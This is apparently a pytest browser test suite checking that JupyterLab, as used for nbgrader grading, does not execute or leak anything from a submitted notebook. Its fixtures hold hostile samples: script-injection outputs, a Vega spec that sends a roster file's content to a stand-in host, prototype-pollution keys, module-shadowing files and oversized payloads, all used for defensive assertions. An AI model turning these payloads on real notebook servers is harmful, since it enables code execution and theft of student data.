"""JupyterLab in a course: a trainee's notebook that is opened there runs nothing, and tells nobody."""

from __future__ import annotations

import contextlib
import json
import os
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import desk_rig as rig
import pytest

SURFACE = "formgrader"
pytestmark = [pytest.mark.browser, pytest.mark.sandbox]
#: A server of this machine that only listens stands for any other host.
ELSEWHERE = "http://127.0.0.1:PORT"
OUTPUTS: dict[str, dict[str, str]] = {
    "script": {"text/html": "<script>window.SHOWN_script=1</script>"},
    "handler": {"text/html": "<img src=x onerror='window.SHOWN_handler=1'>"},
    "javascript": {"application/javascript": "window.SHOWN_javascript=1"},
    "svg": {
        "image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload='window.SHOWN_svg=1'/>"
    },
    "picture": {"text/html": f"<img src='{ELSEWHERE}/picture.png'>"},
    "style": {"text/html": f"<div style=\"background:url('{ELSEWHERE}/style.png')\">x</div>"},
    "sheet": {"text/html": f"<style>@import url('{ELSEWHERE}/sheet.css');</style>"},
    "frame": {"text/html": f"<iframe src='{ELSEWHERE}/frame'></iframe>"},
    "film": {"text/html": f"<video autoplay src='{ELSEWHERE}/film.mp4'></video>"},
    "markdown": {"text/markdown": f"![x]({ELSEWHERE}/markdown.png)"},
    "vega": {
        "application/vnd.vega.v5+json": {  # type: ignore[dict-item]
            "$schema": "https://vega.github.io/schema/vega/v5.json",
            "data": [
                {
                    "name": "a",
                    "url": "/api/contents/course/roster.csv?content=1",
                    "format": {"type": "json"},
                },
                {"name": "b", "url": {"signal": f"'{ELSEWHERE}/vega?q='+data('a')[0].content"}},
                {"name": "c", "url": f"{ELSEWHERE}/vega"},
            ],
        },
        "text/plain": "a drawing",
    },
    "object": {"text/html": f"<object data='{ELSEWHERE}/object.svg'></object>"},
}


@dataclass
class Opened:
    """What came of opening it."""

    shown: set[str]
    asked: list[str] = field(default_factory=list)
    text: str = ""
    kernels: Any = None
    ran: bool = False


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[tuple[list[str], int]]:
    """What another host is asked for, and its port."""
    with rig.ear() as heard:
        yield heard


@pytest.fixture(scope="module")
def notebook(
    tmp_path_factory: pytest.TempPathFactory, browser: Any, elsewhere: tuple[list[str], int]
) -> Iterator[Opened]:
    """A hostile notebook, opened in JupyterLab as an instructor would."""
    asked, port = elsewhere
    top = tmp_path_factory.mktemp("lab")
    course = top / "course"
    rig.prepare(course)
    book = json.loads((course / "release" / rig.SLUG / f"{rig.BOOK}.ipynb").read_text("utf-8"))
    book["metadata"]["trusted"] = True
    book["cells"][0]["metadata"] |= {"trusted": True, "__proto__": {"trusted": True}}
    book["cells"][0]["execution_count"] = 1
    book["cells"][0]["outputs"] = [
        *(
            {"output_type": "display_data", "data": data, "metadata": {}}
            for data in OUTPUTS.values()
        ),
        {"output_type": "stream", "name": "stdout", "text": "shown to the end"},
    ]
    essay = next(cell for cell in book["cells"] if cell["cell_type"] == "markdown")
    essay["source"] = f"here it is read\n\n![x]({ELSEWHERE}/essay.png)"
    folder = course / "submitted" / "s1" / rig.SLUG
    folder.mkdir(parents=True)
    (folder / f"{rig.BOOK}.ipynb").write_text(json.dumps(book).replace("PORT", str(port)), "utf-8")
    mark = top / "ran"
    (folder / "x.vg.json").write_text(
        json.dumps(OUTPUTS["vega"]["application/vnd.vega.v5+json"]).replace("PORT", str(port))
    )
    for name in ("ipykernel_launcher", "json", "typing"):
        (folder / f"{name}.py").write_text(f"open({str(mark)!r}, 'w').write('ran')\n", "utf-8")
    # Started above the course: what holds may not hang on where.
    with rig.server(top, top / "home") as server:
        server.ready()
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        page.goto(f"{server.base}/lab/tree/course/submitted/s1/{rig.SLUG}/{rig.BOOK}.ipynb")
        page.wait_for_selector("text=shown to the end", timeout=60_000)
        page.wait_for_selector(".jp-MarkdownOutput:has-text('here it is read')", timeout=20_000)
        page.wait_for_timeout(2500)
        shown = page.evaluate(
            "Object.keys(window).filter(k => k.startsWith('SHOWN_')).map(k => k.slice(6))"
        )
        text = page.inner_text("body")
        page.screenshot(path=top / "lab.png")
        page.goto(f"{server.base}/lab/tree/course/submitted/s1/{rig.SLUG}/x.vg.json")
        page.wait_for_timeout(4000)
        page.screenshot(path=top / "drawing.png")
        yield Opened(
            set(shown),
            asked,
            text,
            server.kernels(),
            mark.exists(),
        )
        context.close()


@dataclass
class Lab:
    """A server above a course, a browser in it, and what other hosts were asked for."""

    server: rig.Server
    browser: Any
    asked: list[str]
    ear: int

    def write(self, path: str, text: str | bytes) -> None:
        """Put a file below the server; ``ELSEWHERE`` in it is another host."""
        place = self.server.root / path
        place.parent.mkdir(parents=True, exist_ok=True)
        data = text if isinstance(text, bytes) else text.encode()
        place.write_bytes(data.replace(b"PORT", str(self.ear).encode()))

    def page(self) -> Any:
        """A browser that was never here before."""
        context = self.browser.new_context(viewport={"width": 1280, "height": 900})
        page = context.new_page()
        page.faults = []
        page.on("console", lambda said: page.faults.append(said.text))
        return page


@pytest.fixture(scope="module")
def lab(
    tmp_path_factory: pytest.TempPathFactory, browser: Any, elsewhere: tuple[list[str], int]
) -> Iterator[Lab]:
    """JupyterLab in a folder with a course."""
    top = tmp_path_factory.mktemp("desk")
    rig.prepare(top / "course")
    with rig.server(top, top / "home") as server:
        yield Lab(server.ready(), browser, *elsewhere)


PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>"
    b"endobj 3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj trailer<</Root 1 0 R>>"
)
THEIRS = f"course/submitted/eve/{rig.SLUG}"
WORKSPACE = json.dumps(
    {
        "data": {
            "layout-restorer:data": {
                "main": {
                    "dock": {
                        "type": "tab-area",
                        "currentIndex": 0,
                        "widgets": ["terminal:9", "console:y"],
                    },
                    "current": "console:y",
                }
            },
            "terminal:9": {"data": {"name": "9"}},
            "console:y": {
                "data": {"path": "y", "name": "y", "kernelPreference": {"name": "python3"}}
            },
        },
        "metadata": {"id": "default"},
    }
)


@pytest.mark.parametrize("folder", [THEIRS, "mail"])
@pytest.mark.parametrize("way", ["address", "double click", "link"])
def test_a_workspace_file_does_nothing(lab: Lab, folder: str, way: str) -> None:
    """Does a file that says which terminals and kernels to start, start any, wherever it lies?"""
    lab.write(f"{folder}/answers.jupyterlab-workspace", WORKSPACE)
    page = lab.page()
    address = f"{lab.server.base}/lab/tree/{folder}"
    if way == "link":
        cell = {"cell_type": "markdown", "metadata": {}, "id": "a"}
        cell["source"] = "[my figures](answers.jupyterlab-workspace)"
        book = {"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
        lab.write(f"{THEIRS}/see.ipynb", json.dumps(book).replace("](", f"](/lab/tree/{folder}/"))
        page.goto(f"{lab.server.base}/lab/tree/{THEIRS}/see.ipynb?reset")
        page.click(".jp-Dialog button:has-text('No Kernel')")
        page.click("a:has-text('my figures')")
    elif way == "address":
        page.goto(f"{address}/answers.jupyterlab-workspace")
    else:
        page.goto(f"{address}?reset")
        page.dblclick(".jp-DirListing-item:has-text('answers')")
    page.wait_for_timeout(4000)
    page.context.close()
    assert json.loads(lab.server.get("/api/terminals")[2]) == []
    assert lab.server.kernels() == []
    assert b"terminal:9" not in lab.server.get("/lab/api/workspaces")[2]


@pytest.mark.parametrize("rel", ["prefetch", "modulepreload", "preload", "stylesheet", "icon"])
def test_a_page_asks_no_other_host(lab: Lab, rel: str) -> None:
    """Does a page that JupyterLab shows ask another host for nothing, also where it only links?"""
    link = f"<link rel={rel} as=script href='{ELSEWHERE}/linked-{rel}'><h1>my report</h1>"
    lab.write("mail/page.html", f"<head>{link}</head>")
    page = lab.page()
    page.goto(f"{lab.server.base}/lab/tree/mail/page.html?reset")
    page.frame_locator(".jp-HTMLViewer iframe").locator("h1:has-text('my report')").wait_for()
    page.wait_for_timeout(800)
    page.context.close()
    assert not [one for one in lab.asked if one.startswith("/linked")]


def test_a_page_that_was_handed_in_is_text(lab: Lab) -> None:
    """Is such a page no page in JupyterLab, so that it greets no host, even if it is trusted?"""
    lab.write(f"{THEIRS}/page.html", "<link rel=preconnect href='http://x.invalid'><b>我的</b>&lt;")
    # nbgrader lays what was handed in beside the pages of feedback.
    lab.write(f"course/feedback/eve/ps1/{rig.BOOK}.html", "<b>here</b>")
    lab.write(f"course/autograded/eve/ps1/{rig.BOOK}.ipynb", "{}")
    foreign = ["eve/ps1/page.html", "eve/ps1/page.HTML", "eve/ps1/page.xht", "eve/ps1/page.svgz",
               f"mal/ps1/{rig.BOOK}.html", f"eve/ps1/{rig.BOOK}.HTML"]  # fmt: skip
    for name in foreign:
        lab.write(f"course/feedback/{name}", "<b>there</b>")
    page = lab.page()
    page.goto(f"{lab.server.base}/lab/tree/{THEIRS}/page.html?reset")
    shown = page.frame_locator(".jp-HTMLViewer iframe")
    shown.locator("pre").wait_for()
    assert "<b>我的</b>&lt;" in shown.locator("pre").inner_text()
    assert shown.locator("link, b").count() == 0
    page.goto(f"{lab.server.base}/lab/tree/course/feedback/eve/ps1/{rig.BOOK}.html?reset")
    shown.locator("b:has-text('here')").wait_for()
    for name in (foreign[0], foreign[1], foreign[4]):
        page.goto(f"{lab.server.base}/lab/tree/course/feedback/{name}?reset")
        shown.locator("pre:has-text('<b>there</b>')").wait_for()
    page.context.close()
    for name in foreign:
        about = lab.server.get(f"/files/course/feedback/{name}")[1]
        assert about["content-disposition"] == "attachment", name
    about = lab.server.get(f"/files/course/feedback/eve/ps1/{rig.BOOK}.html")[1]
    assert "content-disposition" not in about


ACTS = [
    "nbconvert/html/course/release/ps1/work.ipynb", "formgrader", "formgrader?path=/tmp", "logout",
    "formgrader/manage_assignments", "api/contents/", "api/shutdown", "assignments", "lab/tree/course",
    "terminals/1", "tree/course", "formgrader/api/assignments",
]  # fmt: skip


@pytest.mark.parametrize("address", ACTS)
def test_a_picture_asks_the_server_for_nothing(lab: Lab, address: str) -> None:
    """Does an address of this server that does something answer no picture of a hand-in?"""
    about = {"Sec-Fetch-Dest": "image", "Referer": lab.server.base + "/"}
    request = urllib.request.Request(f"{lab.server.base}/{address}", headers=about)
    with pytest.raises(urllib.error.HTTPError, match="404"):
        urllib.request.urlopen(request, timeout=20)


@pytest.mark.parametrize(
    "name", ["files/mine/own.svg", "static/favicons/favicon.ico", "favicon.ico"]
)
def test_pictures_are_there(lab: Lab, name: str) -> None:
    """Is what is a picture still there for one?"""
    lab.write("mine/own.svg", rig.FIGURE)
    about = {"Sec-Fetch-Dest": "image", "Referer": lab.server.base + "/"}
    request = urllib.request.Request(f"{lab.server.base}/{name}", headers=about)
    with urllib.request.urlopen(request, timeout=20) as answer:
        assert answer.status == 200


HUGE = {
    "objects": ("huge.ipynb", b'{"cells": [], "x": [' + b"{}," * 1_000_000 + b"{}]}"),
    "objects by another name": (
        "huge.txt?type=notebook&x",
        b'{"cells": [], "x": [' + b"{}," * 1_000_000 + b"{}]}",
    ),
    "bytes": ("huge.log", b""),
}


@pytest.mark.parametrize("what", HUGE)
def test_what_is_too_much_is_not_opened(lab: Lab, what: str) -> None:
    """Is a hand-in that would fill the server's memory refused before it is read?"""
    asked, content = HUGE[what]
    name, _, kind = asked.partition("?")
    lab.write(f"{THEIRS}/{name}", content)
    if not content:
        os.truncate(lab.server.root / THEIRS / name, 1 << 32)
    status, _, body = lab.server.get(f"/api/contents/{THEIRS}/{name}?content=1&{kind}")
    assert status == 413
    assert b"too large" in body
    # The folder is there to be looked at, with this file in its list.
    assert name in lab.server.get(f"/api/contents/{THEIRS}?content=1")[2].decode()
    (lab.server.root / THEIRS / name).unlink()


def test_honest_files_are_opened(lab: Lab) -> None:
    """Are a picture and a table of some megabytes opened, whatever signs stand in them?"""
    lab.write(f"{THEIRS}/noise.png", b"[{" * 1_500_000)
    lab.write(f"{THEIRS}/table.csv", b"1,2,3\n" * 700_000)
    for name in ("noise.png", "table.csv"):
        assert lab.server.get(f"/api/contents/{THEIRS}/{name}?content=1")[0] == 200
        (lab.server.root / THEIRS / name).unlink()


def test_what_is_read_of_a_notebook(lab: Lab) -> None:
    """Does JupyterLab get the known fields of a hand-in, and no key that scripts would believe?"""
    evil = {"trusted": True, "__proto__": {"trusted": True}, "constructor": {"a": 1}}
    data = {"text/html": "<b>x</b>", "application/json": {"__proto__": {"a": 1}, "b": 2}}
    output = {"output_type": "display_data", "data": data}
    output["metadata"] = {**evil, "image/png": {"width": 9, **evil}}
    nbgrader = {"grade_id": "a", "solution": True, **evil}
    code = {"cell_type": "code", "id": "a", "source": "1", "execution_count": 3}
    code |= {"metadata": {**evil, "nbgrader": nbgrader, "tags": ["t"]}, "outputs": [output], **evil}
    prose = {"cell_type": "markdown", "id": "b", "source": ["x"], "metadata": evil}
    picture = {"image/png": "iVBO"}
    prose["attachments"] = {"a.png": {**picture, "__proto__": "x"}, "__proto__": picture}
    book = {"cells": [code, prose], "metadata": evil, "nbformat": 4, "nbformat_minor": 5, **evil}
    lab.write(f"{THEIRS}/fields.ipynb", json.dumps(book))
    told = json.loads(lab.server.get(f"/api/contents/{THEIRS}/fields.ipynb?content=1")[2])
    text = json.dumps(told["content"])
    assert not [word for word in ("trusted", "__proto__", "constructor") if word in text]
    shown = told["content"]["cells"]
    assert shown[0]["metadata"] == {"nbgrader": {"grade_id": "a", "solution": True}, "tags": ["t"]}
    assert shown[0]["outputs"][0]["metadata"] == {"image/png": {"width": 9}}
    assert shown[0]["outputs"][0]["data"]["text/html"] == "<b>x</b>"
    assert shown[1]["attachments"] == {"a.png": {"image/png": "iVBO"}}


@pytest.mark.parametrize("folder", [THEIRS, "mail"])
def test_a_pdf_is_shown(lab: Lab, folder: str) -> None:
    """Does the policy let JupyterLab show a PDF, an instructor's own or one that was handed in?"""
    lab.write(f"{folder}/page.pdf", PDF)
    page = lab.page()
    page.goto(f"{lab.server.base}/lab/tree/{folder}/page.pdf?reset")
    shown = page.frame_locator(".jp-PDFContainer iframe").locator("object")
    shown.wait_for(state="attached")
    page.wait_for_timeout(1500)
    assert shown.get_attribute("data").startswith("blob:")
    assert not [one for one in page.faults if "policy" in one.lower() and "blob:" in one[:80]]
    page.context.close()


@pytest.mark.parametrize("place", ["lab/tree", "notebooks"])
def test_own_work_is_as_ever(lab: Lab, place: str) -> None:
    """Does one's own notebook show figures, formulas, widgets and scripts, and the policy stop none?"""
    cells = [
        {"cell_type": "markdown", "source": "$x^2$ ![](own.svg)"},
        {
            "cell_type": "code",
            "source": "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2]);",
        },
        {"cell_type": "code", "source": "import ipywidgets\nipywidgets.IntSlider(value=7)"},
        {
            "cell_type": "code",
            "source": "from IPython.display import HTML, Audio, IFrame, Javascript, display\n"
            "display(HTML('<script>window.MINE = 1</script>'), Javascript('window.MINE_TOO = 1'))\n"
            "display(Audio([0.1] * 99, rate=8000), IFrame('own.html', 99, 99))\nprint('the' + ' end')",
        },
    ]
    for number, cell in enumerate(cells):
        cell |= {"metadata": {}, "id": f"c{number}"}
        if cell["cell_type"] == "code":
            cell |= {"outputs": [], "execution_count": None}
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    book = {"cells": cells, "metadata": kernel, "nbformat": 4, "nbformat_minor": 5}
    lab.write("mine/own.ipynb", json.dumps(book))
    lab.write("mine/own.svg", rig.FIGURE)
    lab.write("mine/own.html", "<p>mine</p>")
    page = lab.page()
    page.goto(f"{lab.server.base}/{place}/mine/own.ipynb?reset")
    page.click(".jp-Notebook .jp-CodeCell >> nth=0")
    # JupyterLab passes over what is run before its kernel is there, without a word.
    for _ in range(6):
        page.click(".lm-MenuBar-item:has-text('Run')")
        page.click(".lm-Menu-item:has-text('Run All Cells')")
        with contextlib.suppress(rig.TimeoutError):
            page.wait_for_selector(".jp-OutputArea-output:has-text('the end')", timeout=15_000)
            break
    assert page.locator(".jp-OutputArea-output:has-text('the end')").count()
    page.wait_for_selector(".jupyter-widgets", state="attached", timeout=30_000)
    page.wait_for_selector(".jp-RenderedImage img", state="attached")
    assert page.evaluate("[window.MINE, window.MINE_TOO]") == [1, 1]
    assert not [one for one in page.faults if "policy" in one.lower()]
    page.context.close()


@pytest.mark.parametrize("way", [*OUTPUTS, "essay"])
def test_nothing_runs_and_nothing_is_asked_elsewhere(notebook: Opened, way: str) -> None:
    """Does a part of an opened notebook run nothing, and ask no other host for anything?"""
    assert way not in notebook.shown
    assert not [one for one in notebook.asked if one.startswith(f"/{way}")]


def test_no_kernel(notebook: Opened) -> None:
    """Is no kernel started, none of the files beside it run, and is the reader told why?"""
    assert notebook.kernels == []
    assert not notebook.ran
    assert "casebank grade" in notebook.text
